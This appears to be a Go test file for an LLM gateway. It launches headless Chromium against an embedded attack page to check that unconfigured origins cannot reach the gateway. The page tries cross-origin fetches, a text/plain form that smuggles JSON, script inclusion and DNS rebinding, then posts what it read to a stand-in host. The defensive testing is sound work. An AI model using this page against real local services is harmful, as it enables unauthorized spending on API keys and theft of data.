//go:build unix

package gateway_test

import (
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/callwright/callwright/internal/gateway"
	"github.com/callwright/callwright/internal/longtest"
	"github.com/callwright/callwright/internal/prerequisite"
	"github.com/callwright/callwright/simulate"
)

// attack is a page that tries all that a page can do to reach the gateway at GATE. It hands what it could read to the site that it came from.
const attack = `<!doctype html><body><script>
const gate = 'GATE', read = [];
const ask = JSON.stringify({model: 'openai/native', messages: [{role: 'user', content: 'hi'}]});
const tries = [
  ['/v1/models', {}], ['/v1/models', {mode: 'no-cors'}], ['/', {}], ['/healthz', {}], ['/callwright/reports/x', {}],
  ['/v1/chat/completions', {method: 'POST', body: ask}],
  ['/v1/chat/completions', {method: 'POST', body: ask, headers: {'Content-Type': 'application/json'}}],
  ['/v1/chat/completions', {method: 'POST', body: ask, mode: 'no-cors'}],
  ['/v1/chat/completions', {method: 'POST', body: new Blob([ask]), mode: 'no-cors'}],
  ['/api/chat', {method: 'POST', body: new URLSearchParams(ask), mode: 'no-cors'}],
];
(async () => {
  for (const [path, how] of tries) {
    try {
      const got = await fetch(gate + path, how);
      if (got.ok) read.push(path + ' ' + await got.text());
    } catch (e) {}
  }
  const frame = document.createElement('iframe');
  frame.name = 'f';
  document.body.append(frame);
  const form = document.createElement('form');
  form.method = 'post'; form.enctype = 'text/plain'; form.target = 'f'; form.action = gate + '/v1/chat/completions';
  const field = document.createElement('input');
  field.name = ask.slice(0, -1) + ',"x":"'; field.value = '"}';
  form.append(field);
  document.body.append(form);
  await new Promise(done => { frame.onload = done; form.submit(); setTimeout(done, 2000); });
  const script = document.createElement('script');
  await new Promise(done => { script.onload = script.onerror = done; script.src = gate + '/v1/models'; document.body.append(script); });
  await fetch('/result', {method: 'POST', body: JSON.stringify(read)});
})();
</script>`

// A site serves the attack and takes what it read. Below all other paths it is whatever stands in for it.
type site struct {
	*httptest.Server
	port string
	read chan []string
}

func newSite(t *testing.T, gate string, instead http.Handler) *site {
	t.Helper()
	s := &site{read: make(chan []string, 1)}
	mux := http.NewServeMux()
	mux.HandleFunc("GET /page", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, strings.ReplaceAll(attack, "GATE", gate))
	})
	mux.HandleFunc("POST /result", func(_ http.ResponseWriter, r *http.Request) {
		var read []string
		_ = json.NewDecoder(r.Body).Decode(&read)
		s.read <- read
	})
	mux.Handle("/", instead)
	s.Server = httptest.NewServer(mux)
	t.Cleanup(s.Close)
	_, s.port, _ = net.SplitHostPort(s.Listener.Addr().String())
	return s
}

// visit opens an address in a real browser for which every name is this machine, and returns what the page could read.
func (s *site) visit(t *testing.T, browser, url string) []string {
	t.Helper()
	home, err := os.MkdirTemp("", "browser")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(home)
	c := exec.CommandContext(t.Context(), browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
		"--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage",
		"--host-resolver-rules=MAP * 127.0.0.1", "--user-data-dir="+home, "--remote-debugging-port=0", url)
	c.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		_ = syscall.Kill(-c.Process.Pid, syscall.SIGKILL)
		_ = c.Wait()
	}()
	select {
	case read := <-s.read:
		return read
	case <-time.After(2 * time.Minute):
		t.Fatal("the page was never done")
		return nil
	}
}

// A page that the operator happens to visit gets nothing from a gateway without keys and has nothing sent at the operator's cost: neither
// from an origin of its own, nor under a name that was made to mean this machine. A page that the configuration names is served.
func TestPagesInABrowser(t *testing.T) {
	if !longtest.IsEnabled() {
		t.Skip("it starts a browser")
	}
	browser := prerequisite.Program(t, "chromium", "chromium-browser", "google-chrome")
	var asked atomic.Int64
	fake := simulate.New(simulate.Weather())
	upstream := models(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked.Add(1)
		fake.ServeHTTP(w, r)
	}))
	closed := serve(t, gateway.Config{Models: upstream})
	open := serve(t, gateway.Config{Models: upstream, Origins: []string{"http://friend.test:*"}})
	for _, c := range []struct {
		name, gate, host string
		instead          http.Handler
		served           bool
	}{
		{"another origin", closed.URL, "evil.test", http.NotFoundHandler(), false},
		{"another port of this machine", closed.URL, "localhost", http.NotFoundHandler(), false},
		{"a rebound name", "", "rebound.test", gateway.New(gateway.Config{Models: upstream}), false},
		{"an origin that is named", open.URL, "friend.test", http.NotFoundHandler(), true},
		{"an origin that is not", open.URL, "evil.test", http.NotFoundHandler(), false},
	} {
		t.Run(c.name, func(t *testing.T) {
			asked.Store(0)
			s := newSite(t, c.gate, c.instead)
			read := s.visit(t, browser, "http://"+c.host+":"+s.port+"/page")
			if got := len(read) > 0; got != c.served {
				t.Errorf("the page read %q", read)
			}
			if n := asked.Load(); n > 0 != c.served {
				t.Errorf("%d requests went to the provider", n)
			}
		})
	}
}
